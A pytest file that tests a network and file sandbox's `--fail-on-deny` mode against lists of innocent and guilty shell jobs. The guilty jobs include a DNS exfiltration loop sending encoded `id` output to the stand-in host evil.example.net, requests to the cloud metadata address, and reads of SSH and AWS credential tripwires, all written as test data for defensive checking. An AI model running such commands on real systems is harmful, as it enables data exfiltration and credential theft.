"""Jobs of real tools that `--fail-on-deny` judges: each succeeds by itself, innocent or guilty.

A job runs in namespace and in landlock isolation, as root and as an ordinary user. What landlock
isolation can't see or does not have (files, names, datagrams, a network without the proxy) is
marked. In a script {port} is the origin's, which {name} is allowed at, {dead} a port without a
service, {home} the home of the run on the host.
"""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from harness import NONO_TRIO, RUN_SECONDS, SYSTEM_PYTHON, Sessions, allow, as_user, free_port

if TYPE_CHECKING:
    from collections.abc import Mapping

    from harness import Origin

NAME, EVIL = "mirror.example.com", "evil.example.net"
SITE_PACKAGES = str(Path(pytest.__file__).parent.parent)
# pip of the environment of the tests, for users who can't enter its interpreter's directory.
PIP = (
    SYSTEM_PYTHON + " -c 'import sys, runpy; sys.path.insert(0, \"" + SITE_PACKAGES + '");'
    ' runpy.run_module("pip", run_name="__main__", alter_sys=True)\''
    " download --disable-pip-version-check --retries 0 --no-deps --no-cache-dir"
    " -d ${TMPDIR:-/tmp}/got --index-url http://{index}/simple/ --trusted-host {index} nothing"
)
NPM = "npm view nothing --registry http://{index}/ --fetch-retries 0"
GIT = "git ls-remote http://{index}/nothing.git"
CURL = "curl -fsS -o /dev/null --max-time 20"
DIRECT = CURL + " --noproxy '*'"
OWN, OTHER = "{name}:{port}", EVIL
# Requests to the proxy itself, by hand; with the password or without.
PROXY = "p=${HTTP_PROXY##*:}; p=${p%/}; t=${HTTP_PROXY#*//}; t=$(printf %s ${t%@*} | base64 -w0);"
ASK = 'exec 3<>/dev/tcp/127.0.0.1/$p; printf "CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n'
RAW = PROXY + ASK + 'Proxy-Authorization: Basic $t\\r\\n\\r\\n" >&3; head -c 20 <&3'
BARE = PROXY + ASK + '\\r\\n" >&3; head -c 20 <&3'
SERVE = (
    "python3 -m http.server --bind 127.0.0.1 {dead} & n=0; until " + CURL + " --noproxy '*'"
    " http://127.0.0.1:{dead}/ || [ $n = 200 ]; do n=$((n+1)); done; kill $!; [ $n -lt 200 ]"
)


@dataclass(frozen=True)
class Job:
    """A shell script, the flags beside --fail-on-deny, and the program that it needs.

    `makes`: paths below the home that are on the host, `LINK=TARGET` a symlink. `fuse`: it is about
    look-ups of files. `landlock`: it is judged right there too (of the tools git and pip stand for
    all). `serves`: the origin has answered.
    """

    script: str
    flags: str = ""
    needs: str = "curl"
    makes: tuple[str, ...] = ()
    fuse: bool = False
    landlock: bool = True
    serves: bool = field(default=False)

    @property
    def shares(self) -> bool:
        """Whether others can be judged with it: its flags excuse nothing of theirs."""
        options = [word for word in shlex.split(self.flags) if word.startswith("--")]
        return not self.fuse and set(options) <= {"--read"}


def served(script: str, flags: str = "", needs: str = "curl", *, landlock: bool = True) -> Job:
    """An innocent job that the origin must have answered."""
    return Job(script, flags, needs, landlock=landlock, serves=True)


def direct(script: str, flags: str = "", needs: str = "curl") -> Job:
    """A job that goes without the proxy, which is refused or not seen in landlock isolation."""
    return Job(script, flags, needs, landlock=False)


def of_files(script: str, flags: str = "", *makes: str) -> Job:
    """A job about look-ups of files."""
    return Job(script, flags, "cat", makes, fuse=True, landlock=False)


DEAD = "--allow-domain {name}:{dead} --resolve {name}:{dead}:127.0.0.1"
KEY = "--fail-on-path ~/.ssh/id_x"
INNOCENT = {
    "an allowed host": served(CURL + " http://{name}:{port}/"),
    "an allowed host without the proxy": served(DIRECT + " http://{name}:{port}/", landlock=False),
    "curl, which is asked for the password": served(
        CURL + " --proxy-anyauth http://{name}:{port}/"
    ),
    "git, which is asked for the password": served(GIT.replace("{index}", OWN), needs="git"),
    "wget": served("wget -qO- http://{name}:{port}/", needs="wget", landlock=False),
    "pip, which looks for its settings": served(
        PIP.replace("{index}", OWN), f"--read {SITE_PACKAGES}", needs=SYSTEM_PYTHON
    ),
    "npm, which looks for its settings": served(
        NPM.replace("{index}", OWN), needs="npm", landlock=False
    ),
    "a dead mirror": served(
        CURL + " http://{name}:{dead}/ || " + CURL + " http://{name}:{port}/", DEAD
    ),
    "a dead mirror without the proxy": direct(DIRECT + " http://{name}:{dead}/", DEAD),
    "expected telemetry": served(
        CURL + " https://t.example.net/ || " + CURL + " http://{name}:{port}/",
        "--expect-deny '*.example.net'",
    ),
    "expected telemetry without the proxy": direct(
        DIRECT + " https://t.example.net/", "--expect-deny t.example.net:443"
    ),
    "expected telemetry that never sends the password": Job(
        BARE.replace("{target}", "t.example.net:443"), "--expect-deny t.example.net", "bash"
    ),
    "expected datagrams": direct(
        "echo x >/dev/udp/192.0.2.1/123", "--expect-deny 192.0.2.1:123", "bash"
    ),
    "a host of the deny list": Job(
        CURL + " https://t.example.net/ ; getent hosts t.example.net",
        "--deny-domain t.example.net",
    ),
    "a datagram to a host of the deny list": direct(
        "echo x >/dev/udp/t.example.net/443", "--deny-domain t.example.net", "bash"
    ),
    "waiting for a server of its own": Job(
        "for n in 1 2 3 4 5; do (exec 3<>/dev/tcp/127.0.0.1/{dead}) 2>/dev/null; done",
        needs="bash",
    ),
    "waiting until its own server answers": direct(SERVE, needs=SYSTEM_PYTHON),
    "waiting for an open port": direct(
        "for n in 1 2 3; do (exec 3<>/dev/tcp/127.0.0.1/{dead}; read -r x <&3); done",
        "--open-port {dead}",
        "bash",
    ),
    "trying a service of this machine": Job("(exec 3<>/dev/tcp/127.0.0.1/{port})", needs="bash"),
    "files that are not there": Job("cat ~/.netrc ~/.ssh/id_rsa", needs="cat"),
    "files of its own": Job(
        "mkdir -p ~/.cache/a && echo x >~/.cache/a/b && mv ~/.cache/a ~/.c && echo x >/tmp/x",
        needs="cat",
    ),
    "keys of its own beside a tripwire": of_files(
        "mkdir -p ~/.ssh && echo x >~/.ssh/known_hosts && cat ~/.ssh/config ~/.ssh/known_hosts",
        KEY, ".ssh/id_x", ".ssh/config",
    ),
    "settings beside a tripwire": of_files(
        "git config --list; cat ~/.config/pip/pip.conf ~/.config/gh/config.yml; ls ~/.config",
        "--fail-on-path ~/.config/gh/hosts.yml", ".config/git/config", ".config/pip/pip.conf",
    ),
    "a look-up of another file than the tripwire": of_files(
        "cat /srv/of-a-test", "--fail-on-path /root/.ssh"
    ),
}  # fmt: skip
GUILTY = {
    "a denied host": Job(CURL + f" http://{EVIL}/"),
    "a denied host by TLS": Job(CURL + f" https://{EVIL}/"),
    "a denied host without the proxy": direct(DIRECT + f" https://{EVIL}/"),
    "a denied host by wget": direct(f"wget -qO- --tries 1 http://{EVIL}/", needs="wget"),
    "another port of an allowed host": Job(CURL + " http://{name}:{dead}/"),
    "another host behind an allowed name": direct(
        DIRECT + f" -k --connect-to {EVIL}:443:{{name}}:443 https://{EVIL}/",
        "--allow-domain {name}:443 --resolve {name}:443:127.0.0.1",
    ),
    "a port of an address": Job("exec 3<>/dev/tcp/192.0.2.1/9092", needs="bash"),
    "an address by IPv6": Job("exec 3<>/dev/tcp/2001:db8::1/443", needs="bash"),
    "an address through the proxy": Job(CURL + " http://192.0.2.1/"),
    "a metadata address": Job(CURL + " http://169.254.169.254/latest/"),
    "a raw CONNECT to a port that is not listed": Job(
        RAW.replace("{target}", "{name}:6667"), needs="bash"
    ),
    "a raw CONNECT without the password": Job(
        BARE.replace("{target}", f"{EVIL}:443"), needs="bash"
    ),
    "a raw CONNECT to the allowed host without it": Job(
        BARE.replace("{target}", "{name}:{port}"), needs="bash"
    ),
    "a datagram": direct("echo x >/dev/udp/192.0.2.1/123", needs="bash"),
    "a denied name that is only looked up": direct(f"getent hosts {EVIL}", needs="getent"),
    "data in names": direct(
        f"for part in $(id | base64 -w 9); do getent hosts $part.{EVIL}; done", needs="getent"
    ),
    "git to another host": Job(GIT.replace("{index}", OTHER), needs="git"),
    "pip to another index": Job(
        PIP.replace("{index}", OTHER), f"--read {SITE_PACKAGES}", needs=SYSTEM_PYTHON
    ),
    "npm to another registry": direct(NPM.replace("{index}", OTHER), needs="npm"),
    "telemetry beside what is expected": Job(
        CURL + f" https://t.example.net/ https://{EVIL}/", "--expect-deny t.example.net"
    ),
    "a datagram behind a flood of expected ones": direct(
        "for n in $(seq 60); do echo x >/dev/udp/192.0.2.1/$n; done;"
        " exec 3<>/dev/udp/192.0.2.2/9; echo x >&3",
        "--expect-deny 192.0.2.1 " + " ".join(f"--expect-deny 192.0.2.1:{n}" for n in range(1, 61)),
        "bash",
    ),
    "the deny list, if all counts": Job(
        CURL + " https://t.example.net/", "--deny-domain t.example.net --fail-on all"
    ),
    "a file created outside": of_files("echo new >/srv/site/of-a-test"),
    "a directory created outside": of_files("mkdir /directory-of-a-test"),
    "a tripwire": of_files("cat ~/.ssh/id_x", KEY, ".ssh/id_x"),
    "a tripwire that does not exist": of_files("cat ~/.ssh/id_x", KEY),
    "a tripwire in a directory of its own": of_files("mkdir -p ~/.ssh; cat ~/.ssh/id_x", KEY),
    "a listing of the tripwire's directory": of_files("tar c ~/.ssh", KEY, ".ssh/id_x"),
    "a tripwire by another name": of_files("cat ~/link/id_x", KEY, ".ssh/id_x", "link=.ssh"),
    "a tripwire's directory": of_files("ls ~/.aws", "--fail-on-path ~/.aws"),
    "a tripwire's pattern": of_files("cat ~/.aws/credentials", "--fail-on-path '~/.aws/*'"),
    "a look-up, if all counts": of_files("cat /srv/of-a-test", "--fail-on all"),
}


def host_of(name: str) -> str:
    """The host of an innocent job that is judged with others."""
    return re.sub(r"\W+", "-", name).lower() + ".example.com"


USERS = ("root", "nobody")
_as_user = partial(as_user, needed=Path(__file__))
# Another device file in the place of one that an ordinary user can't open, in a mount namespace.
_OPENED = (
    'mount -t tmpfs none "$0" && mknod -m 666 "$0/fuse" c 10 229'
    ' && mount --bind "$0/fuse" /dev/fuse && exec "$@"'
)


def needs_view(user: str, place: Path) -> list[str]:
    """The words before a command whose view must answer; skips the test where it can't."""
    if not os.path.exists("/dev/fuse"):
        pytest.skip("there is no /dev/fuse")
    if os.geteuid() != 0 and not os.access("/dev/fuse", os.R_OK | os.W_OK):
        pytest.skip("/dev/fuse can't be opened by this user")
    if user == "root" or os.geteuid() != 0:
        return []
    (place / "device").mkdir()
    return ["unshare", "-m", "sh", "-c", _OPENED, str(place / "device")]


class Judge:
    """Runs commands as one user; `home` and `state` lie in `place`, which every user may enter."""

    def __init__(self, place: Path, origin: Origin, user: str, wrapped: list[str]) -> None:
        self.sessions = Sessions(place / "state", place / "home")
        if user == "root" and os.geteuid() != 0:
            pytest.skip("not root")
        self._origin = origin
        self._wrapped = wrapped
        prefix, variables = _as_user(user)
        self._program = [NONO_TRIO] if user == "root" else [*prefix, "-m", "nono_trio"]
        self._variables = variables if user != "root" else {}
        for directory in (self.sessions.state, self.sessions.home):
            directory.mkdir()
            directory.chmod(0o777)

    def exit_code(self, job: Job, isolation: str) -> int:
        """The exit code of the run."""
        if shutil.which(job.needs) is None:
            pytest.skip(f"{job.needs} is not installed")
        for name in job.makes:
            name, _, target = name.partition("=")
            made = self.sessions.home / name
            made.parent.mkdir(parents=True, exist_ok=True)
            made.symlink_to(target) if target else made.write_text("x\n")
        script, flags = self._filled(job, NAME)
        done = self.run(
            "--isolation", isolation, "--fail-on-deny", *allow(self._origin, NAME), *flags,
            "--", "bash", "-c", f"cd; {{ {script}; }} >/dev/null 2>&1; true",
        )  # fmt: skip
        print(done.stderr)
        return done.returncode

    def exit_code_of_all(self, jobs: Mapping[str, Job], isolation: str) -> int:
        """The exit code of one run of jobs that share it, each with a host of its own, so that
        nothing that one is allowed excuses another. The printed hosts say which was judged."""
        words, scripts = [], []
        for name, job in jobs.items():
            host = host_of(name)
            script, flags = self._filled(job, host)
            words += [*allow(self._origin, host), *flags]
            scripts.append(f"( cd; {script} ) >/dev/null 2>&1")
        script = "\n".join((*scripts, "true"))
        done = self.run(
            "--isolation", isolation, "--fail-on-deny", *words, "--", "bash", "-c", script
        )
        print(script, done.stderr, sep="\n")
        return done.returncode

    def _filled(self, job: Job, host: str) -> tuple[str, list[str]]:
        """The job's script and its flags, with a host and ports."""
        known = {"name": host, "port": self._origin.port, "dead": free_port()}

        def fill(text: str) -> str:
            return re.sub(r"\{(name|port|dead)\}", lambda match: str(known[match[1]]), text)

        return fill(job.script), [fill(word) for word in shlex.split(job.flags)]

    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        """Run `nono-trio run ARGUMENTS`."""
        if self._program == [NONO_TRIO] and not self._wrapped:
            return self.sessions.run(*arguments, cwd="/")
        return subprocess.run(
            [*self._wrapped, *self._program, "run", *arguments],
            env={**self.sessions.environment, **self._variables}, stdin=subprocess.DEVNULL,
            cwd="/", capture_output=True, text=True, timeout=RUN_SECONDS, check=False,
        )  # fmt: skip
